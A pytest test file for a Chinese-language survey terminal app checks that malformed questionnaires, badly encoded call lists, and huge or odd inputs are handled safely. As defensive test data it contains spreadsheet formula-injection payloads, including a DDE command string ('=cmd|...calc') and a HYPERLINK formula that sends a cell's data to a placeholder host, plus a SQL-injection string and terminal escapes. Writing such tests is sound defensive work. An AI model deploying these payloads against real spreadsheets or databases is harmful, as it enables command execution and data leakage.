"""The corpus of bad files in tests/bad_input/: each gets a clear message and a non-zero exit, and
leaves nothing half-written; files that are only unusual (GBK, GB18030, UTF-16) are read right."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from click.testing import CliRunner, Result

from survey_tui.cli import cli
from survey_tui.store import Store
from tests.test_store import rows

CORPUS = Path(__file__).with_name("bad_input")
QUESTIONNAIRES = sorted((CORPUS / "questionnaires").glob("*.yaml"))
# A whole phone number in output: personal data an error message must never print.
FULL_PHONE = re.compile(r"(?<!\d)1[3-9]\d{9}(?!\d)")


def run(*args: str) -> Result:
    result = CliRunner().invoke(cli, list(args))
    assert "Traceback" not in result.output
    assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit), result.exception
    return result


def expectations(path: Path) -> list[tuple[int, str]]:
    """The `# expect: LINE: text` comments at the top of a corpus file."""
    found = []
    for line in path.read_bytes().decode("utf-8", errors="replace").splitlines():
        match = re.match(r"# expect: (\d+): (.*)", line)
        if match:
            found.append((int(match.group(1)), match.group(2).strip()))
    assert found, f"{path.name} says nothing about what to expect"
    return found


# -- questionnaires -----------------------------------------------------------------------------


@pytest.mark.parametrize("path", QUESTIONNAIRES, ids=[path.stem for path in QUESTIONNAIRES])
def test_a_bad_questionnaire_is_reported_with_file_line_and_question(path: Path, tmp_path: Path) -> None:
    checked = run("questionnaire", "check", str(path))
    assert checked.exit_code == 1, checked.output
    for line, text in expectations(path):
        question = re.match(r"(\[\w+\]) (.*)", text)
        wanted = rf"{re.escape(question[1])} .*{re.escape(question[2])}" if question else rf".*{re.escape(text)}"
        assert re.search(rf"^{re.escape(str(path))}:{line}: {wanted}", checked.output, re.M), checked.output
    # The app refuses to start on it, before anything is written.
    db = tmp_path / "survey.db"
    started = run("tui", "--db", str(db), "--agent", "a1", "--questionnaire", str(path))
    assert started.exit_code == 1 and "the questionnaire has problems" in started.output
    assert not db.exists()


def test_a_huge_questionnaire_is_refused_at_once(tmp_path: Path) -> None:
    path = tmp_path / "huge.yaml"
    lines = ["id: huge", "version: 1", "title: 太大了", "questions:"]
    for number in range(6000):
        lines += [f"  - id: q{number}", "    type: short_text", f"    text: 第{number}题，请问您的看法是什么？"]
    path.write_text("\n".join(lines) + "\n", "utf-8")
    assert path.stat().st_size > 512 * 1024
    # Refused by its size, before a parse that would take minutes.
    checked = run("questionnaire", "check", str(path))
    assert checked.exit_code == 1
    limit = "a questionnaire is at most 512 KiB"
    assert re.search(rf"{re.escape(str(path))}:1: the file is [\d,]+ KiB; {limit}", checked.output), checked.output


# -- call lists ---------------------------------------------------------------------------------

# file -> (exit code, text in the output, cases imported)
CALL_LISTS: dict[str, tuple[int, str, int]] = {
    "gbk.csv": (0, "imported 3 case(s)", 3),
    "gb18030.csv": (0, "imported 2 case(s)", 2),
    "unicode_text_utf16.txt": (0, "imported 3 case(s)", 3),
    "formula_injection.csv": (0, "imported 3 case(s)", 3),
    "invalid_and_duplicate_numbers.csv": (0, "skipped 7 (6 bad phone number, 1 duplicate in the file)", 2),
    "field_too_long.csv": (0, "line 2: the name has 150 characters, at most 100 fit", 1),
    "header_only.csv": (0, "imported 0 case(s)", 0),
    "mixed_encodings.csv": (1, "mixes two text encodings: line 1 is UTF-8 and line 3 is GBK", 0),
    "utf8_bom_then_gbk.csv": (1, "starts as UTF-8 text but has bytes that are not (near line 3", 0),
    "missing_phone_column.csv": (1, "no phone column. Found columns: 宽带账号, 姓名, 支局", 0),
    "empty.csv": (1, "the file is empty", 0),
    "only_blank_lines.csv": (1, "the file is empty", 0),
    "not_text.csv": (1, "does not look like a text (CSV) file", 0),
    "malformed_quotes.csv": (1, "line 2: malformed CSV (unexpected end of data); a quote", 0),
    "no_valid_number.csv": (1, "no row of the file can be called; nothing was imported", 0),
}


def test_the_corpus_is_all_tested() -> None:
    assert sorted(CALL_LISTS) == sorted(path.name for path in (CORPUS / "call_lists").iterdir())


@pytest.mark.parametrize("name", list(CALL_LISTS))
def test_each_call_list_of_the_corpus(name: str, tmp_path: Path) -> None:
    exit_code, message, imported = CALL_LISTS[name]
    db = str(tmp_path / "survey.db")
    with Store.open(db) as store:
        store.import_cases(rows(1, start=900))  # the list already has a customer, who must stay as he was
        before = store.list_cases()
    result = run("--db", db, "sample", "import", str(CORPUS / "call_lists" / name))
    assert result.exit_code == exit_code, result.output
    assert message in result.output
    assert not FULL_PHONE.search(result.output), "a full phone number was printed"
    with Store.open(db) as store:
        cases = store.list_cases()
    assert len(cases) == 1 + imported
    assert cases[0] == before[0]
    if exit_code:
        assert result.output.startswith("error: ") or "\nerror: " in result.output


def test_gb18030_characters_outside_gbk_and_utf16_text_are_read_right(tmp_path: Path) -> None:
    db = str(tmp_path / "survey.db")
    assert run("--db", db, "sample", "import", str(CORPUS / "call_lists" / "gb18030.csv")).exit_code == 0
    assert run("--db", db, "sample", "import", str(CORPUS / "call_lists" / "unicode_text_utf16.txt")).exit_code == 0
    with Store.open(db) as store:
        names = {case.name for case in store.list_cases()}
        dates = {case.disconnect_date.isoformat() for case in store.list_cases() if case.disconnect_date}
    assert {"刘䶮", "𠀾明", "张伟", "李娜", "王芳"} == names
    assert {"2021-02-03", "2021-02-04", "2021-02-05"} == dates


def test_formula_cells_of_a_call_list_are_kept_verbatim(tmp_path: Path) -> None:
    db = str(tmp_path / "survey.db")
    assert run("--db", db, "sample", "import", str(CORPUS / "call_lists" / "formula_injection.csv")).exit_code == 0
    with Store.open(db) as store:
        by_phone = {case.phone: case for case in store.list_cases()}
    first, second, third = (by_phone[f"154000000{n}"] for n in (21, 22, 23))
    assert first.name == '=HYPERLINK("http://example.invalid/?x="&A1,"点我领话费")'
    assert (second.name, second.branch, second.package) == ("+86-徐", "=1+1", "@SUM(A1:A9)")
    assert second.extra == {"备注": "-2+3"}
    # Leading tabs and returns are where the trick hides; the cell text is kept, trimmed as every cell is.
    assert third.name == "=cmd|' /C calc'!A0" and third.package == "=2*3"


def test_a_hundred_thousand_rows(tmp_path: Path) -> None:
    path = tmp_path / "big.csv"
    lines = ["手机号,宽带账号,姓名,支局,拆机日期,套餐"]
    lines += [f"154{n:08d},SY{n:09d},客户{n},大祥支局,2021-02-03,融合套餐129元" for n in range(100_000)]
    path.write_bytes(("\n".join(lines) + "\n").encode("gbk"))
    db = str(tmp_path / "survey.db")
    first = run("--db", db, "sample", "import", str(path))
    assert first.exit_code == 0 and "imported 100000 case(s)" in first.output
    again = run("--db", db, "sample", "import", str(path))
    assert again.exit_code == 0 and "imported 0 case(s)" in again.output
    assert "skipped 100000 (100000 already on the call list)" in again.output
    assert "99990 more" in again.output  # ten are listed, the rest counted
    with Store.open(db) as store:
        assert store.case_counts()["pending"] == 100_000
        assert store.get_case(100_000).name == "客户99999"


def test_xlsx_call_lists_with_formulas_and_without_a_phone_column(tmp_path: Path) -> None:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["手机号", "姓名", "支局"])
    sheet.append(["15400000061", None, "大祥支局"])
    sheet.cell(2, 2).value = '=HYPERLINK("http://example.invalid","点我")'
    sheet.cell(2, 2).data_type = "s"  # text that looks like a formula, as an export from a CRM has it
    sheet.append([15400000062, "=1+1", "双清支局"])  # a real formula: its value is not known to the reader
    good = tmp_path / "list.xlsx"
    book.save(good)
    db = str(tmp_path / "survey.db")
    assert run("--db", db, "sample", "import", str(good)).exit_code == 0
    with Store.open(db) as store:
        names = {case.phone: case.name for case in store.list_cases()}
    assert names == {"15400000061": '=HYPERLINK("http://example.invalid","点我")', "15400000062": None}

    book = Workbook()
    book.active.append(["姓名", "支局"])
    book.active.append(["张三", "大祥支局"])
    bad = tmp_path / "nophone.xlsx"
    book.save(bad)
    result = run("--db", db, "sample", "import", str(bad))
    assert result.exit_code == 1 and "no phone column" in result.output


# -- coding input -------------------------------------------------------------------------------


def code(source: Path, output: Path, column: str = "answer") -> Result:
    return run("code", str(source), "--text-column", column, "--output", str(output), "--rules-only")


def test_coding_a_file_without_the_text_column_leaves_the_old_output_alone(tmp_path: Path) -> None:
    source = tmp_path / "answers.csv"
    source.write_text("id,回答\n1,太贵了\n", "utf-8")
    output = tmp_path / "coded.csv"
    output.write_text("the previous run's result\n", "utf-8")
    result = code(source, output)
    assert result.exit_code == 1 and "no column 'answer'; the columns are: id, 回答" in result.output
    assert output.read_text("utf-8") == "the previous run's result\n"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["answers.csv", "coded.csv"]  # no stray part file


@pytest.mark.parametrize("content", [b"", b"\xef\xbb\xbf"], ids=["empty", "only-a-bom"])
def test_coding_an_empty_file_is_refused(content: bytes, tmp_path: Path) -> None:
    source = tmp_path / "answers.csv"
    source.write_bytes(content)
    result = code(source, tmp_path / "coded.csv")
    assert result.exit_code == 1 and "empty" in result.output
    assert not (tmp_path / "coded.csv").exists()


def test_empty_rows_and_cells_that_are_not_text_are_coded(tmp_path: Path) -> None:
    import datetime as dt

    import pandas as pd
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.append(["id", "answer"])
    for row in (
        [1, "移动送的宽带，电信太贵了"],
        [2, None],
        [3, 12345],
        [4, 3.5],
        [5, dt.datetime(2021, 2, 3, 10, 30)],
        [6, True],
        [7, "   "],
        [8, '=HYPERLINK("http://example.invalid","网速慢")'],
    ):
        sheet.append(row)
    sheet.cell(9, 2).data_type = "s"
    source = tmp_path / "answers.xlsx"
    book.save(source)
    output = tmp_path / "coded.csv"
    result = run(
        "code", str(source), "--text-column", "answer", "--id-column", "id", "--output", str(output), "--rules-only"
    )
    assert result.exit_code == 0, result.output
    coded = pd.read_csv(output, encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert list(coded["id"]) == [str(n) for n in range(1, 9)]
    by_id = coded.set_index("id")
    assert "price" in by_id.loc["1", "reasons"]
    assert by_id.loc["2", "reasons"] == "" and by_id.loc["7", "reasons"] == ""
    assert by_id.loc["8", "text"].startswith("'=HYPERLINK")  # text again, never a formula in Excel
    assert output.stat().st_mode & 0o777 == 0o600


# -- answers ------------------------------------------------------------------------------------


async def test_odd_answers_typed_or_pasted_in_the_app(tmp_path: Path) -> None:
    from textual import events

    from survey_tui.app import make_app
    from survey_tui.model.flow import MAX_TEXT_CHARS
    from tests.test_tui import DISCONNECT, SIZE, STAFF, answer, at, open_interview, until

    store = Store.open(tmp_path / "survey.db")
    store.import_cases(rows(1))
    app = make_app(store, agent="a1", questionnaire=DISCONNECT, staff_questionnaire=STAFF, spool_dir=tmp_path)

    def problem() -> str:
        return str(app.screen.query_one("#problem").render())

    def stored(question_id: str) -> object:
        interviews = store.list_interviews()
        saved = store.answers_for(interviews[0].id).get(question_id) if interviews else None
        return None if saved is None or saved.draft else saved.answer.value

    async def paste(text: str) -> None:
        """As a terminal pastes: the app gets the text and hands it to the focused answer field."""
        area = app.screen.query_one("#long")
        area.load_text("")
        app.post_message(events.Paste(text))
        await until(pilot, lambda: area.text == text.replace("\r\n", "\n").replace("\r", "\n"), timeout=20)

    try:
        async with app.run_test(size=SIZE) as pilot:
            await open_interview(pilot, app)
            await answer(pilot, app, ["enter"], "q1_operator")
            await answer(pilot, app, ["2"], "q2_competitor_reason")

            await pilot.press("enter")  # nothing typed: the question needs an answer
            await until(pilot, lambda: "an answer is required" in problem())
            assert at(app, "q2_competitor_reason")() and stored("q2_competitor_reason") is None

            await paste("很长" * (MAX_TEXT_CHARS // 2 + 1))
            await pilot.press("enter")
            await until(pilot, lambda: "at most 100,000" in problem())
            assert at(app, "q2_competitor_reason")() and stored("q2_competitor_reason") is None

            twenty_thousand = ("移动送宽带还送电视，" * 2000)[:20_000]
            await paste(twenty_thousand)
            await answer(pilot, app, ["enter"], "q3_leave_reason")
            assert stored("q2_competitor_reason") == twenty_thousand

            await paste("第一行\r\n第二行\t缩进\x1b[31m红色\x07😡👎🏻 '); DROP TABLE answers; --")
            await answer(pilot, app, ["enter"], "q4_retention_call")
    finally:
        store.close()
    with Store.open(tmp_path / "survey.db") as reopened:
        [interview] = reopened.list_interviews()
        saved = reopened.answers_for(interview.id)
    # Line breaks kept, the invisible escape and bell dropped, emoji and the SQL-looking text verbatim.
    assert saved["q3_leave_reason"].answer.value == "第一行\n第二行\t缩进[31m红色😡👎🏻 '); DROP TABLE answers; --"
    assert saved["q2_competitor_reason"].answer.value == twenty_thousand
    assert len(saved) == 3
